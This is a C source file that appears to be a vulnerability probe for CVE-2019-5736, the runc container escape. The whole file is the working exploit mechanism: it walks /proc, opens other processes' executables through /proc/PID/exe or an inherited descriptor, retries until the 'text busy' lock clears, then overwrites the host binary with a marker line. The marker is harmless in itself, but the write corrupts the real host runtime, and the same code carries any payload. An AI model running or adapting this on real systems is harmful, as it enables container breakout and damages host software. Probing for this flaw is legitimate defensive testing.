/* Tries to write to a program that this container should not reach (CVE-2019-5736).
 *
 *   overwrite from-the-loader   what descriptor 9 is
 *   overwrite SECONDS           the program of every process that appears, but for ours
 *
 * Says what it found, and `opened` where it could be opened for writing. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int found;

/* While the program still runs, the kernel says ETXTBSY: tried until it does not. */
static void attack(int fd, double seconds) {
  char link[64], name[4096] = "";
  snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
  if (readlink(link, name, sizeof name - 1) < 0) return;
  printf("found %s\n", name);
  ++found;
  for (int i = 0; i < seconds * 1000; ++i) {
    int out = open(link, O_WRONLY);
    if (out >= 0) {
      printf("opened %s\n", name);
      if (write(out, "#!overwritten\n", 14) > 0) printf("written\n");
      close(out);
      return;
    }
    if (errno != ETXTBSY) {
      printf("refused: %s\n", strerror(errno));
      return;
    }
    usleep(1000);
  }
  printf("busy to the end\n");
}

static int is_ours(const char *process) {
  char path[300], own[4096] = "", other[4096] = "";
  snprintf(path, sizeof path, "/proc/%s/exe", process);
  if (readlink(path, other, sizeof other - 1) < 0) return 1;
  readlink("/proc/self/exe", own, sizeof own - 1);
  return strcmp(own, other) == 0 || strstr(other, "/bin/busybox") || strstr(other, "catatonit");
}

int main(int count, char **words) {
  setvbuf(stdout, 0, _IONBF, 0);
  if (count > 1 && strcmp(words[1], "from-the-loader") == 0) {
    attack(9, 2);
    return 0;
  }
  const time_t end = time(0) + (count > 1 ? atoi(words[1]) : 3);
  printf("waiting\n");
  while (time(0) < end && found < 3) {
    DIR *processes = opendir("/proc");
    for (struct dirent *one; processes && (one = readdir(processes));) {
      if (one->d_name[0] < '0' || one->d_name[0] > '9' || is_ours(one->d_name)) continue;
      char path[300];
      snprintf(path, sizeof path, "/proc/%s/exe", one->d_name);
      int fd = open(path, O_RDONLY);
      if (fd < 0) continue;
      attack(fd, 1);
      close(fd);
    }
    if (processes) closedir(processes);
  }
  printf("looked\n");
  return 0;
}
